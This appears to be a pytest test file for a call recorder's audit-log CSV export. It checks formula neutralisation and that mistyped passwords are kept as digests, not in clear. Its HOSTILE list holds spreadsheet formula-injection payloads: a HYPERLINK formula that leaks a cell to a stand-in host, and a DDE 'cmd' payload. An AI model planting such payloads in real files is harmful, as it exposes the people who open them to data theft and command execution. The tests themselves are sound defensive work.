"""The audit log's CSV export neutralises every cell a spreadsheet would run as a formula, also
after leading blanks, with the same guard as the calls export."""

from __future__ import annotations

import csv
import io

import pytest

from pbx_recorder.exports.columns import neutralise
from pbx_recorder.service.api_audit import cell

HOSTILE = (' =HYPERLINK("http://x.example/?"&B2,"open")', "   +cmd|' /C calc'!A0", " -2+3", "  @SUM(A1:A9)",
           "\t=1+1", "\r=1+1", " \t=1", "=1+1", "+1", "-1", "@x")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_gets_an_apostrophe_also_after_blanks(text: str) -> None:
    assert cell(text) == "'" + text == neutralise(text)


@pytest.mark.parametrize("text", ["alice", "a=b", "login.failed", " plain", ""])
def test_plain_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


def test_a_detail_object_is_json_and_guarded_too() -> None:
    assert cell({"a": 1}) == '{"a": 1}' and cell(-5) == "'-5"


def test_the_export_neutralises_a_hostile_login_name(seeded_service) -> None:  # type: ignore[no-untyped-def]
    name = ' =HYPERLINK("http://x.example/?"&B2,"open")'
    anon = seeded_service.client()
    assert anon.post("/api/login", json={"name": name, "password": "x" * 12}).status_code == 401
    admin, _ = seeded_service.login("root-admin")
    text = admin.get("/api/audit/export.csv?action=login.failed").text
    # (since session 45 a name that is no account is kept as a digest, not as typed: it may be a
    # password typed in the wrong field; the formula never reaches the log)
    assert "HYPERLINK" not in text
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["actor"].startswith("unknown:")]
    assert rows and all(r["target"] == r["actor"] for r in rows)
    # an account's own name is restricted to letters, digits and . _ - @: one starting with @ or -
    # is still guarded in the export
    assert anon.post("/api/login", json={"name": "@alice", "password": "x" * 12}).status_code == 401


def test_a_password_typed_as_the_name_is_not_kept_in_the_audit_log(seeded_service) -> None:  # type: ignore[no-untyped-def]
    """Session-45 review: a failed login's ``actor`` was the name as typed, so a password typed
    into the name field sat in the audit log in clear."""
    secret = "Winter-2026-secret"
    anon = seeded_service.client()
    assert anon.post("/api/login", json={"name": secret, "password": "x" * 12}).status_code == 401
    assert anon.post("/api/login", json={"name": secret, "password": "y" * 12}).status_code == 401
    admin, _ = seeded_service.login("root-admin")
    text = admin.get("/api/audit/export.csv?action=login.failed").text
    assert secret not in text
    digests = [r["actor"] for r in csv.DictReader(io.StringIO(text)) if r["actor"].startswith("unknown:")]
    assert len(digests) == 2 and len(set(digests)) == 1  # the same typed name: the same digest
    assert anon.post("/api/login", json={"name": "alice", "password": "z" * 12}).status_code == 401
    assert any(r["actor"] == "alice" for r in csv.DictReader(io.StringIO(
        admin.get("/api/audit/export.csv?action=login.failed").text)))  # an account's name stays
